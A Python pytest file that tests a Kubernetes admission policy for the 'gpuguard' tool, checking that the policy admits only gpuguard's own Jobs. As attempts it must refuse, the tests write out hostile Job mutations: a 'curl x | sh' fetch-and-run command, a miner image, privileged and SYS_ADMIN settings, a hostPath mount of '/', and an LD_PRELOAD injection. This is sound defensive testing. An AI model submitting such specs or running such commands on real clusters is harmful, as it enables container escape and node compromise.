"""The ValidatingAdmissionPolicy admits exactly the Jobs gpuguard builds: its CEL rules are
evaluated (cel-python) against the evidence Job and against Jobs a stolen token might try."""

from __future__ import annotations

import copy
from collections.abc import Callable
from typing import Any

import pytest

from gpuguard.actuators import jobs
from tests.admission import IMAGE, evidence, failed_rules, policy, render_default


def test_the_evidence_job_gpuguard_builds_is_admitted() -> None:
    assert failed_rules(evidence()) == []


def _pod(job: dict[str, Any]) -> dict[str, Any]:
    pod: dict[str, Any] = job["spec"]["template"]["spec"]
    return pod


def _container(job: dict[str, Any]) -> dict[str, Any]:
    container: dict[str, Any] = _pod(job)["containers"][0]
    return container


MUTATIONS: list[tuple[str, str, Callable[[dict[str, Any]], None]]] = [
    (
        "privileged",
        "unprivileged",
        lambda j: _container(j)["securityContext"].update(privileged=True),
    ),
    ("host-pid", "host PID", lambda j: _pod(j).update(hostPID=True)),
    ("host-network", "host PID", lambda j: _pod(j).update(hostNetwork=True)),
    ("other-image", "own image", lambda j: _container(j).update(image="attacker/miner:latest")),
    (
        "shell-command",
        "the command",
        lambda j: _container(j).update(command=["sh", "-c", "curl x | sh"]),
    ),
    ("not-pinned", "pinned", lambda j: _pod(j).pop("nodeName")),
    (
        "sys-admin-cap",
        "capabilities",
        lambda j: _container(j)["securityContext"]["capabilities"].update(add=["SYS_ADMIN"]),
    ),
    (
        "writable-mount",
        "read-only",
        lambda j: _container(j)["volumeMounts"][0].update(readOnly=False),
    ),
    (
        "host-root-volume",
        "hostPath",
        lambda j: _pod(j)["volumes"].append({"name": "root", "hostPath": {"path": "/"}}),
    ),
    ("api-token", "API token", lambda j: _pod(j).update(automountServiceAccountToken=True)),
    (
        "second-container",
        "exactly one container",
        lambda j: _pod(j)["containers"].append(copy.deepcopy(_container(j))),
    ),
]


@pytest.mark.parametrize(("name", "rule", "mutate"), MUTATIONS, ids=[m[0] for m in MUTATIONS])
def test_any_other_shape_is_refused_by_its_rule(
    name: str, rule: str, mutate: Callable[[dict[str, Any]], None]
) -> None:
    job = evidence()
    mutate(job)
    failed = failed_rules(job)
    assert len(failed) == 1, f"{name}: {failed}"
    assert rule in failed[0]


def test_policy_applies_only_to_gpuguards_service_account_and_is_bound_to_deny() -> None:
    docs = render_default()
    (binding,) = [d for d in docs if d["kind"] == "ValidatingAdmissionPolicyBinding"]
    assert binding["spec"]["validationActions"] == ["Deny"]
    (condition,) = policy()["spec"]["matchConditions"]
    assert "system:serviceaccount:gpuguard:gpuguard" in condition["expression"]


def burnin() -> dict[str, Any]:
    return jobs.burnin_job(
        "gpu-node-b", "2026-09-21T05:53:30Z", "91d4e7b0-boot-after", gpus=8,
        mode="matmul+memtest", image=IMAGE, reason="xid-48",
    )  # fmt: skip


def test_the_burn_in_job_gpuguard_builds_is_admitted() -> None:
    job = burnin()
    assert failed_rules(job) == []
    assert _container(job)["command"][:2] == ["gpuguard", "burnin"]
    assert _container(job)["resources"]["requests"]["nvidia.com/gpu"] == "8"
    assert "volumes" not in _pod(job) or _pod(job)["volumes"] == []


def test_a_burn_in_job_with_a_host_path_is_refused() -> None:
    job = burnin()
    _pod(job)["volumes"] = [{"name": "root", "hostPath": {"path": "/"}}]
    _container(job)["volumeMounts"] = [{"name": "root", "mountPath": "/host"}]
    assert failed_rules(job) == [
        "only read-only hostPath volumes of /sys, /var/log, /proc, /etc",
        "every mount is read-only",
    ]


def _gpu_isolation(action: str = "apply") -> dict[str, Any]:
    return jobs.gpu_isolation_job(
        "gpu-node-a", "k", action=action, uuids=("GPU-0a8e0faa",), image=IMAGE
    )


@pytest.mark.parametrize("action", ["apply", "undo"])
def test_the_gpu_isolation_job_gpuguard_builds_is_admitted(action: str) -> None:
    assert failed_rules(_gpu_isolation(action)) == []


GPU_ISOLATION_MUTATIONS: list[tuple[str, str, Callable[[dict[str, Any]], None]]] = [
    (
        "shell-in-the-uuid-list",
        "gpu-isolate: exactly",
        lambda j: _container(j)["command"].insert(6, "sh"),
    ),
    (
        "all-gpus-visible-is-fine-but-other-env-is-not",
        "environment",
        lambda j: _container(j)["env"].append({"name": "LD_PRELOAD", "value": "/x.so"}),
    ),
    (
        "driver-capabilities-beyond-utility",
        "environment",
        lambda j: _container(j)["env"][1].update(value="all"),
    ),
    ("other-runtime", "runtime class", lambda j: _pod(j).update(runtimeClassName="runc-priv")),
    (
        "writable-var-log",
        "read-only",
        lambda j: _container(j)["volumeMounts"][1].update(readOnly=False),
    ),
]


@pytest.mark.parametrize(
    ("name", "rule", "mutate"), GPU_ISOLATION_MUTATIONS, ids=[m[0] for m in GPU_ISOLATION_MUTATIONS]
)
def test_any_other_gpu_isolation_shape_is_refused(
    name: str, rule: str, mutate: Callable[[dict[str, Any]], None]
) -> None:
    job = _gpu_isolation()
    mutate(job)
    failed = failed_rules(job)
    assert len(failed) == 1, f"{name}: {failed}"
    assert rule in failed[0]


def test_only_the_gpu_isolation_job_may_write_etc_gpuguard() -> None:
    job = evidence()
    _pod(job)["volumes"].append(
        {"name": "x", "hostPath": {"path": "/etc/gpuguard", "type": "DirectoryOrCreate"}}
    )
    _container(job)["volumeMounts"].append(
        {"name": "x", "mountPath": "/host/etc/gpuguard", "readOnly": False}
    )
    assert any("/etc/gpuguard" in rule for rule in failed_rules(job))
